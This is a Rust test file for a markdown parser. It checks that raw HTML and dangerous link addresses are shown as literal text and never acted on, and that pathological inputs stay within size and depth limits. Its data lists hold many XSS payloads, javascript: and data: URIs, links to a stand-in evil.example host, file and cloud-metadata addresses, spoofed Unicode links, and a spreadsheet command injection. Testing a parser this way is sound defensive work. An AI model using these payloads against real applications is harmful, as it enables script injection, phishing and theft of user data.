//! Text written to break or to deceive. The types leave no room for markup; these tests hold the
//! limits, and that what was written is shown and not acted on.

use trainmaster::text::markdown::parse;
use trainmaster::text::nodes::{Address, Block, Document, Inline};

/// Each is shown letter for letter: raw HTML of every kind is text.
const SHOWN: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\t>alert(1)</script >",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=\"jav\tascript:alert(1);\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><annotation-xml encoding=text/html><script>x</script></annotation-xml></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<body onload=alert(1)>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/p.gif)}</style>",
    "<div style=\"background:url(https://evil.example/p.gif)\">x</div>",
    "<div style=\"position:fixed;inset:0;z-index:9999\">cover</div>",
    "<form action=https://evil.example><input name=password autofocus onfocus=alert(1)></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=https://evil.example/p.gif>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=x ping=https://evil.example>x</a>",
    "<a id=location>x</a><a id=location name=reload>y</a>",
    "<img name=getElementById>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<portal src=https://evil.example></portal>",
    "<dialog open>x</dialog>",
    "<input type=image src=x onerror=alert(1)>",
    "<table background=https://evil.example/p.gif>",
    "<xss style=animation-name:x onanimationstart=alert(1)></xss>",
    "<x onclick=alert(1)>click</x>",
    "<p onpointerover=alert(1)>x</p>",
    "<!-- hidden comment -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x/>",
    "<!DOCTYPE html [<!ENTITY x \"y\">]>",
    "</p></div></body></html>",
    "</textarea></title></style></script><script>alert(1)</script>",
    "<b><i></b></i><p><div></p></div>",
    "<img src=\"a\nonerror=alert(1)\">",
    "<plaintext>",
    "<frameset onload=alert(1)>",
    "<select><option><script>alert(1)</script></option></select>",
    "<keygen autofocus onfocus=alert(1)>",
    "<bdo dir=rtl>gnp.exe</bdo>",
];

/// Each is an address in a link: kept exactly and shown, and that is all.
const ADDRESSES: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript:void(0)//https://a.example",
    "java%0ascript:alert(1)",
    "javascript&#x3A;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "javascript&colon;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "\u{1}javascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:x",
    "mocha:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+",
    "data:application/xhtml+xml,x",
    "data:,x",
    "blob:https://a.example/x",
    "file:///etc/passwd",
    "filesystem:https://a.example/x",
    "about:blank",
    "view-source:https://a.example",
    "chrome://settings",
    "intent://x#Intent;end",
    "ms-word:ofe|u|https://evil.example",
    "tel:+1",
    "mailto:x@a.example?bcc=y",
    "//evil.example",
    "///evil.example",
    "\\\\evil.example\\share",
    "https://a.example@evil.example",
    "https://evil.example\u{2F}%2e%2e",
    "https://xn--80ak6aa92e.com",
    "https://аррӏе.com",
    "https://a.example/\u{202E}gpj.exe",
    "https://a.example/\u{200B}",
    "https://169.254.169.254/latest/meta-data",
    "https://evil.example/p.gif?q=secret",
    "#\"onclick=alert(1)",
    "x'onclick='alert(1)",
    "x`onclick=`alert(1)",
];

/// Markdown that bends the syntax; it need only end, under the limits.
const BENT: &[&str] = &[
    "[a](javascript:alert(1)",
    "[a](<javascript:alert(1)>)",
    "[a]( javascript:alert(1) \"onclick=alert(1)\")",
    "[a]: javascript:alert(1)\n\n[a]",
    "[a][b]\n\n[b]: data:text/html,x \"t\"",
    "![a][b]\n\n[b]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[![a](https://evil.example/p.gif)](javascript:alert(1))",
    "![![![a](b)](c)](d)",
    "[a](b)](c)](d)",
    "[<script>](x)",
    "[a](x \"<script>alert(1)</script>\")",
    "`<script>alert(1)</script>`",
    "```<script>\nalert(1)\n```",
    "```js onload=alert(1)\nx\n```",
    "~~~\n```\n~~~",
    "[^<script>]\n\n[^<script>]: x",
    "[^1]: [^1]\n\n[^1]",
    "[^a]: [^b]\n\n[^b]: [^a]\n\n[^a]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&#x202E;reversed",
    "&#0; &#xD800; &#x110000; &#99999999999;",
    "&amp;lt;script&amp;gt;",
    "*<b>*</b>",
    "**a*b**c*",
    "|<script>|\n|-|\n|<img src=x>|",
    "|a|\n|-|\n|`|`|\n|\\||",
    "# <script>alert(1)</script> {#id .class onclick=x}",
    "- [x] <input type=checkbox onclick=alert(1)>",
    "- - - - - - a",
    "1. 2. 3. 4. a",
    "99999999999999999999. a",
    "> ```\n> a\n\nb",
    "\\<script\\>",
    "\u{FEFF}# title",
    "a\0b\0c",
    "\u{202E}\u{202E}\u{202E}",
    "\r\r\r\n\n\r",
    "\t\t\t- a",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\(\\unicode{x202E}\\)",
    "---\ntitle: x\n---",
    "+++\ntitle = 1\n+++",
    "[[wiki|link]]",
    ":::warning\nx\n:::",
    "{{ 7*7 }} {% include 'x' %} ${x}",
    "=cmd|' /C calc'!A0",
    "%00%0d%0a",
];

/// `text` with each number up to `times` in place of `{}`.
fn numbered(times: usize, text: &str) -> String {
    let one = |number: usize| text.replace("{}", &number.to_string());
    (0..times).map(one).collect()
}

/// Text that grows somewhere; the parser and the tree must not grow with it.
fn bombs() -> Vec<(&'static str, String)> {
    let many = |text: &str, times: usize| text.repeat(times);
    vec![
        ("quotes", many(">", 10_000)),
        ("quotes with words", many("> ", 10_000) + "x"),
        ("open brackets", many("[", 100_000)),
        ("closed brackets", many("[", 50_000) + &many("]", 50_000)),
        ("open links", many("[a](", 50_000)),
        (
            "link in link",
            many("[", 5_000) + "a" + &many("](b)", 5_000),
        ),
        ("images", many("![", 50_000)),
        ("stars", many("*", 100_000)),
        ("stars apart", many("*a ", 60_000)),
        ("both stars", many("*a **b ", 30_000)),
        ("stars and lines", many("*a_ ", 50_000)),
        ("tildes", many("~a ~~", 40_000)),
        (
            "backticks",
            (1..600).map(|length| "`".repeat(length) + " ").collect(),
        ),
        ("open angle", many("<", 100_000)),
        ("open comments", many("<!-- ", 40_000)),
        ("comment starts", many("<!--", 50_000)),
        ("declarations", many("<!A ", 50_000)),
        ("instructions", many("<?", 100_000)),
        ("open cdata", many("<![CDATA[", 20_000)),
        ("open tags", many("<a b=\"", 30_000)),
        ("entities", many("&lt;", 60_000)),
        ("open entities", many("&", 200_000)),
        ("backslashes", many("\\", 200_000)),
        ("lists", many("- ", 10_000) + "x"),
        ("numbers", many("1. ", 10_000) + "x"),
        (
            "deeper lists",
            (0..700).map(|depth| " ".repeat(depth) + "- a\n").collect(),
        ),
        ("flat list", many("- a\n", 60_000)),
        ("lists and quotes", many("> - ", 20_000) + "x"),
        (
            "wide table",
            many("|a", 20_000) + "\n" + &many("|-", 20_000) + "\n" + &many("|\n", 20_000),
        ),
        (
            "long table",
            "|a|\n|-|\n".to_owned() + &many("|b|\n", 50_000),
        ),
        ("table heads", many("|a|\n|-|\n", 30_000)),
        ("headings", many("# ", 50_000)),
        ("many headings", many("# a\n", 50_000)),
        ("underlines", many("a\n=\n", 50_000)),
        ("rules", many("---\n", 60_000)),
        ("fences", many("```\n", 60_000)),
        ("open fence", "```\n".to_owned() + &many("a\n", 100_000)),
        ("footnotes", numbered(8_000, "[^{}]: x\n\n")),
        ("footnote marks", many("[^1]", 50_000) + "\n\n[^1]: x"),
        ("definitions", numbered(10_000, "[{}]: x\n")),
        (
            "one definition",
            "[a]: ".to_owned() + &many("x", 50_000) + "\n\n" + &many("[a]", 50_000),
        ),
        ("lines", many("\n", 250_000)),
        ("returns", many("\r", 250_000)),
        ("spaces", many(" ", 250_000)),
        ("breaks", many("a  \n", 60_000)),
        ("one word", many("a", 260_000)),
        ("nothing", many("\0", 260_000)),
        ("zero width", many("\u{200B}", 80_000)),
        ("two zero widths", many("\u{200B}\u{200C}", 40_000)),
        (
            "zero widths in code",
            "`".to_owned() + &many("\u{200B}\u{200C}", 40_000) + "`",
        ),
        ("directions", many("\u{202E}a\u{202C}", 30_000)),
        ("marks", "a".to_owned() + &many("\u{301}", 120_000)),
        (
            "towers",
            many(&("a".to_owned() + &many("\u{301}", 20)), 6_000),
        ),
        ("tags", many("\u{E0041}", 60_000)),
        ("tags after flags", many("🏴\u{E0041}", 30_000)),
        ("selectors", many("😀\u{FE0F}\u{FE01}", 20_000)),
        ("joined emoji", many("👩\u{200D}", 30_000)),
        ("ideographs", many("漢", 87_000)),
    ]
}

/// Counts nodes, the deepest nesting, and finds every address.
#[derive(Default)]
struct Count<'a> {
    nodes: usize,
    deepest: usize,
    addresses: Vec<&'a Address>,
}

impl<'a> Count<'a> {
    fn blocks(&mut self, blocks: &'a [Block], depth: usize) {
        self.deepest = self.deepest.max(depth);
        for block in blocks {
            self.nodes += 1;
            match block {
                Block::Paragraph(text) | Block::Heading { text, .. } => {
                    self.inlines(text, depth + 1);
                }
                Block::Quote(inner) | Block::Footnote { blocks: inner, .. } => {
                    self.blocks(inner, depth + 1);
                }
                Block::List { items, .. } => {
                    for item in items {
                        self.nodes += 1;
                        self.blocks(&item.blocks, depth + 2);
                    }
                }
                Block::Table { head, rows, .. } => {
                    for cell in std::iter::once(head).chain(rows).flatten() {
                        self.nodes += 1;
                        self.inlines(cell, depth + 3);
                    }
                }
                Block::Code { text, .. } | Block::Html(text) => self.nodes += text.len(),
                Block::Rule => {}
            }
        }
    }

    fn inlines(&mut self, inlines: &'a [Inline], depth: usize) {
        self.deepest = self.deepest.max(depth);
        for inline in inlines {
            self.nodes += 1;
            match inline {
                Inline::Strong(text) | Inline::Emphasis(text) | Inline::Strike(text) => {
                    self.inlines(text, depth + 1);
                }
                Inline::Link { text, address, .. }
                | Inline::Image {
                    alt: text, address, ..
                } => {
                    self.addresses.push(address);
                    self.inlines(text, depth + 1);
                }
                Inline::Formula(formula) => self.nodes += formula.source.len(),
                Inline::Code(pieces) | Inline::Html(pieces) | Inline::Footnote(pieces) => {
                    self.nodes += pieces.len();
                }
                Inline::Text(_) | Inline::Chip(_) | Inline::Break => {}
            }
        }
    }
}

/// Checks that the document is within its limits and draws nothing.
fn check(name: &str, document: &Document) {
    let mut count = Count::default();
    count.blocks(&document.blocks, 1);
    assert!(document.nodes <= 20_000, "{name}: {} nodes", document.nodes);
    assert!(
        count.nodes <= document.nodes,
        "{name}: {} nodes uncounted",
        count.nodes
    );
    assert!(
        document.characters <= 200_000,
        "{name}: {} characters",
        document.characters
    );
    assert!(count.deepest <= 64, "{name}: {} deep", count.deepest);
    assert!(
        count
            .addresses
            .iter()
            .all(|address| address.picture().is_none()),
        "{name}"
    );
}

#[test]
fn html_is_shown_as_it_was_written() {
    for html in SHOWN {
        for source in [
            (*html).to_owned(),
            format!("before {html} after"),
            format!("> - {html}"),
        ] {
            let document = parse(&source);
            check(html, &document);
            assert!(
                document
                    .text()
                    .contains(html.lines().next().unwrap_or_default()),
                "{source}"
            );
        }
    }
}

#[test]
fn addresses_are_kept_and_not_followed() {
    for address in ADDRESSES {
        for source in [
            format!("[words]({address})"),
            format!("[words](<{address}>)"),
            format!("![words]({address})"),
            format!("[words]\n\n[words]: {address}"),
            format!("<{address}>"),
        ] {
            let document = parse(&source);
            check(address, &document);
            let shown = super::markdown::told(&document);
            assert!(
                source.starts_with('<') || shown.contains("words"),
                "{source}: {shown}"
            );
        }
    }
    let document = parse("[a](https://a.example/\u{202E}gpj.exe)");
    let mut count = Count::default();
    count.blocks(&document.blocks, 1);
    let pieces = count.addresses[0].pieces();
    assert_eq!(
        pieces.len(),
        3,
        "the override in an address is a chip: {pieces:?}"
    );
}

#[test]
fn bent_markdown_ends() {
    for source in BENT {
        check(source, &parse(source));
        check(source, &parse(&source.repeat(200)));
    }
}

#[test]
fn bombs_stay_small() {
    for (name, source) in bombs() {
        check(name, &parse(&source));
    }
}
